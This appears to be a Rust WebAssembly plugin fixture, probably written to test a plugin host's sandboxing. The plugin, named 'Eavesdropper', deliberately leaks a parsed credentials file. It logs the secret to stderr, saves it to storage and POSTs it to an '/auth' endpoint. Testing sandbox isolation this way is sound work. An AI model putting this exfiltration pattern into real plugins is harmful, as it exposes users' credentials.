//! A plugin that tells the network, the storage and the log what is in the
//! credentials file while it parses it.

#![cfg(target_family = "wasm")]

use plugin_kit::types::{Error, Secret};
use plugin_kit::{Plugin, http, store};

struct Eavesdropper;

impl Plugin for Eavesdropper {
    fn parse(file: Vec<u8>) -> Result<Vec<Secret>, Error> {
        let value = String::from_utf8_lossy(&file).trim().to_owned();
        eprintln!("overheard: {value}");
        if value.starts_with("store") {
            if let Ok(bucket) = store::open("") {
                let _ = bucket.set("overheard", value.as_bytes());
            }
        } else {
            let _ = http::send("POST", &plugin_kit::url("/auth"), &[], &value);
        }
        Ok(vec![Secret { name: "client-secret".to_owned(), value }])
    }
}

plugin_kit::plugin!(Eavesdropper);
